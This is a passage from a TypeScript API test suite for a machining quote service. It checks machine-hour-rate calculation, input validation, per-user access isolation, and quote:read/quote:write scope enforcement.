      [config.body.mhr_value, config.body.mhr_value_source, config.body.mhr?.calculated_mhr],
      [20.03, "calculated", 20.03],
    );

    const deleted = await api.request("DELETE", `${path}/mhr`, { key: alice.key });
    assert.equal(deleted.status, 204);
    const after = await api.request<MachineQuote>("GET", `${path}/quote`, { key: alice.key });
    assert.deepEqual([after.body.mhr_value, after.body.mhr], [null, null]);
    assert.equal((await api.request("DELETE", `${path}/mhr`, { key: alice.key })).status, 404);
  });

  it("fills cost per m² and energy cost from the settings, and refuses bad MHR inputs with 400", async () => {
    await api.request("PATCH", "/quote/settings", {
      key: alice.key,
      body: { default_cost_per_m2: 12, default_energy_cost: 0.25 },
    });
    const { cost_per_square_meter: _c, energy_cost: _e, ...rest } = MHR_INPUTS;
    const res = await api.request<{ calculated_mhr: number; inputs: Record<string, number> }>(
      "POST",
      "/quote/mhr/calculate",
      { key: alice.key, body: rest },
    );
    assert.equal(res.body.calculated_mhr, 20.03);
    for (const body of [
      { ...MHR_INPUTS, years: "10" },
      { ...MHR_INPUTS, interest_rate: 6 },
      { ...MHR_INPUTS, operating_hours: 0 },
      { ...MHR_INPUTS, maintenance_cost: -1 },
    ]) {
      const bad = await api.request<ErrorBody>("POST", "/quote/mhr/calculate", { key: alice.key, body });
      assert.equal(bad.status, 400, JSON.stringify(body));
      const stored = await api.request<ErrorBody>("POST", `${path}/mhr`, { key: alice.key, body });
      assert.equal(stored.status, 400);
    }
  });

  it("answers 404 for a machine that is not assigned to the user", async () => {
    await insertOwnMachine(db.owner, bob.id, "bob-quote-mill", "Bob only");
    for (const [method, p, body] of [
      ["GET", "/libraries/machines/bob-quote-mill/quote", undefined],
      ["PATCH", "/libraries/machines/bob-quote-mill/quote", { mhr_value: 1 }],
      ["PATCH", "/libraries/machines/bob-quote-mill/quote", { cost_model: { setup_rate: 1 } }],
      ["POST", "/libraries/machines/bob-quote-mill/quote/setup-costs", { name: "x", value: 1, unit: "EUR" }],
      ["DELETE", "/libraries/machines/bob-quote-mill/quote/setup-costs/0", undefined],
      ["GET", "/libraries/machines/bob-quote-mill/mhr", undefined],
      ["POST", "/libraries/machines/bob-quote-mill/mhr", MHR_INPUTS],
      ["DELETE", "/libraries/machines/bob-quote-mill/mhr", undefined],
      ["GET", "/libraries/machines/no-such-machine/quote", undefined],
    ] as const) {
      const res = await api.request<ErrorBody>(method, p, { key: alice.key, body });
      assert.equal(res.status, 404, `${method} ${p}`);
    }
    const rows = await db.owner.query(
      "select * from app_public.machine_quote_configs where product_id = 'bob-quote-mill'",
    );
    assert.equal(rows.rowCount, 0);
  });
});

describe("scopes of the layers' edits", () => {
  it("refuses a key without quote:write on every layer's cost model and the additional costs, and stores nothing", async () => {
    const projectId = await createProject(alice);
    const readOnly = await alice.keyWith(SCOPES.filter((s) => s !== "quote:write"));
    const group = { Title: "Coating", per_unit: true, Costs: [{ label: "anodising", cost: 2 }] };
    for (const [p, body] of [
      [`/projects/${projectId}/quote/job`, { cost_model: { operator_rate: 40 } }],
      [`/projects/${projectId}/quote/job`, { additional_costs: { coat: group } }],
      ["/libraries/machines/router-450-grbl/quote", { cost_model: { setup_rate: 70 } }],
      ["/quote/settings", { cost_model: { setup_rate: 70 } }],
    ] as const) {
      const res = await api.request<ErrorBody>("PATCH", p, { key: readOnly, body });
      assert.equal(res.status, 403, `${p}: ${res.text}`);
    }
    const job = await api.request<QuoteJob & { cost_model: object }>("GET", `/projects/${projectId}/quote/job`, {
      key: readOnly,
    });
    assert.equal(job.status, 200, "quote:read still reads");
    assert.deepEqual([job.body.cost_model, job.body.additional_costs], [{}, {}]);
    const machine = await api.request<MachineQuote>("GET", "/libraries/machines/router-450-grbl/quote", {
      key: readOnly,
    });
    assert.equal(machine.body.cost_model.setup_rate, undefined);
    const settings = await api.request<{ cost_model: { setup_rate: number } }>("GET", "/quote/settings", {
      key: readOnly,
    });
    assert.notEqual(settings.body.cost_model.setup_rate, 70);

    const noRead = await alice.keyWith(SCOPES.filter((s) => s !== "quote:read"));
    for (const p of [`/projects/${projectId}/quote?language=de`, "/libraries/machines/router-450-grbl/quote"]) {
      assert.equal((await api.request("GET", p, { key: noRead })).status, 403, p);
    }
  });
});
